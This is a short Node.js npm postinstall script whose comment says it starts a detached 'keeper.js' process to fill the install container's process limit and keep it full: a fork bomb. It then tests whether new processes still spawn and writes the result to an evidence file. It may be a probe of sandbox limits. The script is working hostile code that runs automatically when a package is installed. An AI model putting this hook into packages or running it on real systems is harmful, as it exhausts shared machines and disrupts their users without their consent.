// A postinstall that leaves a fork loop running behind it: a detached keeper starts processes
// until the install container's process limit is full, and keeps it full while npm and the
// install finish. It records that the loop bit.
const { spawn, spawnSync } = require('node:child_process');
const fs = require('node:fs');

spawn(process.execPath, [`${__dirname}/keeper.js`], { detached: true, stdio: 'ignore' }).unref();
setTimeout(() => {
  let failed = 0;
  for (let i = 0; i < 20; i++) if (spawnSync('true').error) failed++;
  const evidence = `fork loop: ${failed} of 20 spawns failed after 5 s`;
  fs.writeFileSync('bomb-evidence.txt', evidence);
  console.log(evidence);
}, 5000);
